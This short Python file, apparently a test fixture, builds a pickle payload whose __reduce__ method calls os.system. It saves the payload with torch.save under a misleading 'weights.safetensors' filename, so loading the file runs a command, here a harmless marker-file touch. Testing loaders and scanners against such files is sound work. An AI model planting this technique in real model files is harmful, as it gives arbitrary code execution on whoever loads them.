"""Weights as torch saves them by itself: whoever loads them runs what they say."""

import os

import torch


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/fumehood-was-here",)


def arrange(handover):
    torch.save({"weight": Command()}, f"{handover}/seed-0/weights.safetensors")
